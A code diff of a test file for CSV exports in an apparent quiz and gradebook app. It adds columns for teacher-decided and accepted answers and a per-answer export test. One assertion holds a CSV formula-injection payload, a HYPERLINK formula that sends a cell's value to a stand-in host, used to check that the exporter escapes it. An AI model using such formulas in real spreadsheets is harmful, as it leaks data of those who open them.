@@ -1,6 +1,6 @@
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
-import { analyticsCsv, gradebookCsv } from "./csv";
+import { analyticsCsv, answersCsv, gradebookCsv } from "./csv";
 
 describe("CSV exports", () => {
   it("round-trips names with accents, commas and quotes, and starts with a UTF-8 byte-order mark", () => {
@@ -32,6 +32,7 @@ describe("CSV exports", () => {
         },
       ],
       "Asia/Almaty",
+      new Map([["1", { accepted: 2, "marked-wrong": 1 }]]),
     );
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
@@ -46,6 +47,7 @@ describe("CSV exports", () => {
         "Time spent (s)": "95",
         "Last activity (Asia/Almaty)": "2026-12-01 08:05",
         Late: "no",
+        "Answers decided by the teacher": "2 accepted; 1 marked wrong",
       },
       {
         Student: 'Dana "DJ" Jaxybekova, Jr.',
@@ -57,6 +59,7 @@ describe("CSV exports", () => {
         "Time spent (s)": "0",
         "Last activity (Asia/Almaty)": "",
         Late: "yes",
+        "Answers decided by the teacher": "",
       },
     ]);
   });
@@ -78,6 +81,7 @@ describe("CSV exports", () => {
         },
       ],
       "UTC",
+      new Map(),
     );
     const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
     expect(row!.Student).toBe(`'=HYPERLINK("https://evil.test/?"&B2,"x")`);
@@ -97,6 +101,7 @@ describe("CSV exports", () => {
           { option: "Tokayev", count: 1, correct: true },
           { option: "Nazarbayev", count: 3, correct: false },
         ],
+        acceptedAnswers: ["Tokaev", "K. Tokayev"],
         flags: ["Negative discrimination"],
         passage: "Line one,\nline two",
         article: "Kyiv Independent",
@@ -111,6 +116,56 @@ describe("CSV exports", () => {
       "Median time (s)": "8.3",
       "Answers per option": "Tokayev (right): 1; Nazarbayev: 3",
       Flags: "Negative discrimination",
+      "Answers accepted by the teacher": "Tokaev; K. Tokayev",
     });
+  });
+
+  it("lists every answer with who decided it and what the automatic grading said", () => {
+    const common = { student: "Aigerim", email: "a@x.test", attempt: 1, rightAnswer: "Taldykorgan" };
+    const csv = answersCsv(
+      [
+        {
+          ...common,
+          position: 1,
+          question: "Where was the statue toppled?",
+          answer: "Taldy-Korgan",
+          verdict: "correct",
+          teacherMark: "marked-right",
+          graderVerdict: "close",
+          timeMs: 6400,
+          answeredAt: new Date("2026-12-01T03:05:00Z"),
+        },
+        {
+          ...common,
+          position: 2,
+          question: "Which city?",
+          answer: "-1+2",
+          verdict: "incorrect",
+          teacherMark: null,
+          graderVerdict: null,
+          timeMs: 1000,
+          answeredAt: new Date("2026-12-01T03:06:00Z"),
+        },
+        {
+          ...common,
+          position: 3,
+          question: "Who?",
+          answer: null,
+          verdict: null,
+          teacherMark: null,
+          graderVerdict: null,
+          timeMs: null,
+          answeredAt: null,
+        },
+      ],
+      "Asia/Almaty",
+    );
+    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.Answer, r.Result, r["Decided by"], r["Automatic grading said"]])).toEqual([
+      ["Taldy-Korgan", "Correct", "Correct: marked right by the teacher", "Close (scored wrong)"],
+      ["'-1+2", "Wrong", "Automatic grading", ""],
+      ["", "Not answered", "", ""],
+    ]);
+    expect(rows[0]).toMatchObject({ "Time (s)": "6.4", "Answered at (Asia/Almaty)": "2026-12-01 08:05" });
   });
 });
